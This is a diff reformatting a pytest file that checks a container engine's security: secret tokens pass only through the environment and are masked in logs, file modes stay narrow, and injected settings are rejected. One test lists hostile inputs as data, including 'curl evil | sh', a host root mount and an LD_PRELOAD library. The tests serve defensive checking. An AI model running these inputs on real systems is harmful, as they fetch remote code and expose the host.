@@ -21,28 +21,39 @@ def _mode(path: Path) -> int:
     return stat.S_IMODE(os.lstat(path).st_mode)
 
 
-def test_a_token_reaches_the_engine_only_through_its_environment(make_engine, client,
-                                                                 recipe_repo) -> None:
+def test_a_token_reaches_the_engine_only_through_its_environment(
+    make_engine, client, recipe_repo
+) -> None:
     token_file = recipe_repo.path.parent / "hf_token"
     token_file.write_text(TOKEN + "\n")
     token_file.chmod(0o600)
-    chatty = (recipe_repo.path / "scripts" / "prepare.sh").read_text().replace(
-        'echo "Download complete"',
-        'echo "using token $HF_TOKEN"; sleep 2; echo "Download complete"')
+    chatty = (
+        (recipe_repo.path / "scripts" / "prepare.sh")
+        .read_text()
+        .replace(
+            'echo "Download complete"',
+            'echo "using token $HF_TOKEN"; sleep 2; echo "Download complete"',
+        )
+    )
     commit = recipe_repo.commit("prepare prints its token", {"scripts/prepare.sh": chatty})
-    engine: Engine = make_engine(commit=commit, secrets={"HF_TOKEN": str(token_file)},
-                                 settings={"PREPARE_SECONDS": "2"})
+    engine: Engine = make_engine(
+        commit=commit, secrets={"HF_TOKEN": str(token_file)}, settings={"PREPARE_SECONDS": "2"}
+    )
     proc = engine.start_worker()
     generation = engine.request("running")
     seen = []
     status = engine.wait_status(
-        lambda s: seen.append(s["message"]) or (s["generation"] == generation
-                                                 and s["state"] == "running"), timeout=120)
+        lambda s: (
+            seen.append(s["message"]) or (s["generation"] == generation and s["state"] == "running")
+        ),
+        timeout=120,
+    )
     container = client.containers.get(engine.container)
     env = dict(item.split("=", 1) for item in container.attrs["Config"]["Env"])
     assert env["HF_TOKEN"] == TOKEN, "the engine needs its token"
-    args = " ".join([*(container.attrs["Config"].get("Cmd") or []),
-                     *(container.attrs.get("Args") or [])])
+    args = " ".join(
+        [*(container.attrs["Config"].get("Cmd") or []), *(container.attrs.get("Args") or [])]
+    )
     assert TOKEN not in args
     assert any("using token ***" in message for message in seen), seen
     assert all(TOKEN not in message for message in seen)
@@ -83,15 +94,19 @@ def test_files_and_directories_have_the_narrowest_modes(make_engine) -> None:
     assert modes == {str(path): oct(mode) for path, mode in expected.items()}
 
 
-@pytest.mark.parametrize("extra", [
-    {"image": "evil:latest"},
-    {"command": ["sh", "-c", "curl evil | sh"]},
-    {"volumes": ["/:/host"]},
-    {"path": "/etc"},
-    {"env": {"LD_PRELOAD": "/tmp/x.so"}},
-])
-def test_desired_json_cannot_name_an_image_a_command_a_path_or_a_mount(make_engine, client,
-                                                                       extra) -> None:
+@pytest.mark.parametrize(
+    "extra",
+    [
+        {"image": "evil:latest"},
+        {"command": ["sh", "-c", "curl evil | sh"]},
+        {"volumes": ["/:/host"]},
+        {"path": "/etc"},
+        {"env": {"LD_PRELOAD": "/tmp/x.so"}},
+    ],
+)
+def test_desired_json_cannot_name_an_image_a_command_a_path_or_a_mount(
+    make_engine, client, extra
+) -> None:
     engine: Engine = make_engine()
     engine.start_worker()
     generation = engine.request("running")
